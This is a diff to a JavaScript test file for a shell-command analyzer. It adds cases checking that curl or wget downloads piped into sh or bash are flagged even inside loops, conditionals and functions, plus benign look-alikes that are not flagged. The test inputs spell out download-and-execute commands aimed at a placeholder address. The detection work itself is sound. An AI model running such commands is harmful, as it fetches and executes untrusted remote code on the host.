@@ -30,6 +30,18 @@ holds('sees fetched and decoded code given to a shell', 'download_to_shell', [
   ['/root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null', '-'],
 ]);
 
+holds('sees a download given to a shell in loops, conditions and functions as it does alone', 'download_to_shell', [
+  ['while true; do curl -s http://198.51.100.9/a.sh | sh; sleep 60; done', '/download weak'],
+  ['while true; do curl -s http://198.51.100.9/a.sh; sleep 60; done | sh', '/download weak'],
+  ['until wget -qO- http://198.51.100.9/a.sh | bash; do sleep 9; done', '/download weak'],
+  ['for i in 1 2; do curl -s http://198.51.100.9/$i.sh; done | sh', '/download weak'],
+  ['if true; then curl -s http://198.51.100.9/a; else wget -qO- http://198.51.100.9/a; fi | bash', '/download weak'],
+  ['f() { curl -s http://198.51.100.9/a.sh | sh; }; f', '/download weak'],
+  ['while true; do curl -s https://example.com/health; sleep 60; done | grep ok; sh -c date', '-'],
+  ['curl -s https://example.com/list | while read a; do sh /opt/b.sh $a; done', '-'],
+  ['if curl -s https://example.com/health; then echo ok; fi | logger; ls | sh', '-'],
+]);
+
 test('names the addresses that were fetched', () => {
   const [verdict] = decideAll(CONTEXT_ANALYZERS, shell('curl -s http://198.51.100.9/ldr.sh | sh'));
   assert.deepEqual(verdict?.artifacts, ['url:http://198.51.100.9/ldr.sh']);
